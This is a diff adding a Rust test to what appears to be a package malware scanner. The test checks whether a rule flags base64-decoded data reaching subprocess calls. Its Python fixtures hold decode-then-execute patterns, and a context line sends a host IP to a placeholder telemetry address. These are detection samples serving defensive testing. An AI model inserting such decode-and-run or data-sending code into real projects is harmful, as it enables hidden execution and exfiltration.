@@ -1768,3 +1768,24 @@ fn host_identity_sent_to_a_hidden_address_is_high() {
                    requests.post('https://telemetry.example.invalid/set', json={'ip': ip})\n";
     assert_eq!(level(written), Some(Severity::Medium), "{written}");
 }
+
+/// A method called on a name the file never binds (`re.split(p, x)`, with
+/// `re` from a star import) stores nothing in a variable of the file: what
+/// it was given does not come back out of `re.compile(...)` elsewhere. A
+/// list the file binds still holds what is appended to it. Written for the
+/// test.
+#[test]
+fn a_name_the_file_never_binds_is_no_container_of_its_own() {
+    let rules = |src: &str| {
+        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/core.py", bytes: src.as_bytes() }]);
+        report.findings.iter().filter(|f| f.severity >= Severity::High).map(|f| f.rule).collect::<Vec<_>>()
+    };
+    let unbound = "from helpers import *\nimport base64\n\
+                   def key(blob):\n    dep = base64.b64decode(blob).decode()\n    return re.split(',', dep)[0]\n\
+                   def clone(url):\n    pat = re.compile('x')\n    subprocess.run(['git', 'clone', url, pat.pattern])\n";
+    assert!(!rules(unbound).contains(&"process-decoded"), "{:?}", rules(unbound));
+    let bound = "import base64, subprocess\nparts = []\n\
+                 def key(blob):\n    parts.append(base64.b64decode(blob).decode())\n\
+                 def clone():\n    subprocess.run(parts)\n";
+    assert!(rules(bound).contains(&"process-decoded"), "{:?}", rules(bound));
+}
